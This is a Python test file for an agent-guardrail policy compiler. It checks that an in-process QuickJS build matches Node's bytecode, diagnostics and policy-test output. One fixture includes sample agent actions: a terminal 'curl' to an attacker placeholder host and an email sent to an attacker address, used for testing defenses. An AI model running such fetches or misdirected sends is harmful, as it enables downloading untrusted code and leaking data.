"""The compiler bundle runs in-process on QuickJS (agentsfence/jsengine.py) and gives what Node
gives: the same bytecode for every shipped and example policy, the same diagnostics for broken
ones, the same policy-test results. Node is the repository's build tool, so it is on PATH here."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from agentsfence import data, jsengine
from agentsfence.compiler import PolicyErrors, compile_policy

from .conftest import REPO

NODE = shutil.which("node")
pytestmark = pytest.mark.skipif(NODE is None, reason="the comparison needs Node, the build's JavaScript engine")

POLICIES = sorted(
    [*REPO.glob("policies/*.yaml"), *REPO.glob("tests/vectors/policies/*.yaml"),
     *(p for p in REPO.glob("examples/*/*.yaml") if not p.name.endswith(".test.yaml"))]
)
TEST_FILES = sorted([*REPO.glob("policies/tests/*.test.yaml"), *REPO.glob("examples/*/*.test.yaml")])


def node(*arguments: str, cwd: Path = REPO) -> subprocess.CompletedProcess[str]:
    return subprocess.run([NODE, str(data.path("compile.cjs")), *arguments], capture_output=True, text=True, cwd=cwd,
                          timeout=300)


def in_process(*arguments: str, cwd: Path = REPO) -> jsengine.Run:
    here = os.getcwd()
    os.chdir(cwd)
    try:
        return jsengine.run(list(arguments))
    finally:
        os.chdir(here)


def test_every_shipped_and_example_policy_compiles_to_the_same_bytes(tmp_path):
    assert len(POLICIES) >= 6
    for policy in POLICIES:
        by_node, here = tmp_path / f"{policy.stem}.node.afb", tmp_path / f"{policy.stem}.afb"
        done = node(str(policy), "-o", str(by_node))
        assert done.returncode == 0, done.stderr
        assert compile_policy([policy], here) == by_node.read_bytes(), policy
        assert here.read_bytes() == by_node.read_bytes()


def test_the_shipped_policy_is_what_the_build_compiled(tmp_path):
    # scripts/build.sh names it relative to the checkout, as here: a rule's source is in the bytecode.
    done = in_process("policies/defaults.yaml", "-o", str(tmp_path / "default.afb"))
    assert done.status == 0, done.stderr
    assert (tmp_path / "default.afb").read_bytes() == data.path("default.afb").read_bytes()


def test_broken_policies_get_the_same_diagnostics(tmp_path):
    broken = {
        "syntax.yaml": "version: 1\nrules: [\n",
        "schema.yaml": "version: 1\nname: x\nrules:\n  - {id: a, effect: maybe}\n",
        "extends.yaml": "version: 1\nname: x\nextends: [./missing.yaml]\n",
        "dead.yaml": "version: 1\nname: x\nextends: [defaults]\nrules:\n  - {id: all, effect: block, capability: [file.read]}\n"
                     "  - {id: env, effect: ask, capability: [file.read], when: {path: {glob: [\"**/.env\"]}}}\n",
        "unicode.yaml": "version: 1\nname: ünï\nrules:\n  - {id: é, effect: block, tool: [\"wr\u00efte_*\"], message: \"\U0001f6ab {value}\"}\n",
    }
    for name, text in broken.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    (tmp_path / "latin1.yaml").write_bytes(b"version: 1\nname: caf\xe9\n")
    for name in [*broken, "latin1.yaml", "absent.yaml"]:
        for mode in (["check", name, "--json"], ["check", name], [name, "-o", "out.afb", "--json"]):
            by_node, here = node(*mode, cwd=tmp_path), in_process(*mode, cwd=tmp_path)
            assert (here.status, here.stdout, here.stderr) == (by_node.returncode, by_node.stdout, by_node.stderr), (name, mode)
            if mode[-1] == "--json" and mode[0] != "check" and by_node.returncode == 0:
                assert json.loads(here.stdout)["hash"]


def test_policy_tests_run_the_same(tmp_path):
    files = [str(p) for p in TEST_FILES]
    wasm = str(data.path("fence.wasm"))
    by_node, here = node("test", *files, "--wasm", wasm), in_process("test", *files)
    assert here.status == by_node.returncode == 0
    assert (here.stdout, here.stderr) == (by_node.stdout, by_node.stderr)
    # A failing case reports the evaluator's decision the same way.
    failing = tmp_path / "failing.test.yaml"
    failing.write_text(f"policy: {REPO / 'policies' / 'defaults.yaml'}\ncases:\n"
                       "  - name: wrongly expected\n    intent: summarize notes.txt\n    tool: terminal\n"
                       "    args: {command: curl https://attacker.example/x}\n    expect: {kind: allow}\n"
                       "  - name: steps\n    steps:\n      - intent: send one mail to bob@example.com\n"
                       "        tool: mcp__gmail__send_email\n        args: {to: eve@attacker.example}\n"
                       "        expect: {kind: block}\n")
    by_node, here = node("test", str(failing), "--wasm", wasm), in_process("test", str(failing))
    assert (here.status, here.stdout, here.stderr) == (by_node.returncode, by_node.stdout, by_node.stderr)
    assert here.status == 1 and "FAIL wrongly expected" in here.stdout


def test_a_policy_with_errors_raises_them_at_file_line_col(tmp_path):
    policy = tmp_path / "broken.yaml"
    policy.write_text("version: 1\nname: x\nrules:\n  - {id: a, effect: maybe}\n")
    with pytest.raises(PolicyErrors) as raised:
        compile_policy([policy])
    assert raised.value.diagnostics.startswith(f"{policy}:4:")
    assert ": error: " in raised.value.diagnostics


def test_the_rules_workload_compiles_the_same(tmp_path):
    """1,000 rules, as the benchmark writes them."""
    lines = ["version: 1", "name: rules-1000", 'defaults: {"*": ask}', "tools:"]
    lines += [f"  - {{mcp: {{server: svc{i}, tool: send}}, capability: svc{i}.send, risk: send, args: {{to: email}}}}"
              for i in range(1000)]
    lines.append("rules:")
    lines += [f'  - {{id: svc{i}-send, effect: allow, capability: [svc{i}.send], when: {{email: {{in: ["u{i}@example.com"]}}}}}}'
              for i in range(1000)]
    policy = tmp_path / "rules.yaml"
    policy.write_text("\n".join(lines) + "\n")
    by_node = tmp_path / "rules.node.afb"
    assert node(str(policy), "-o", str(by_node)).returncode == 0
    assert compile_policy([policy]) == by_node.read_bytes()
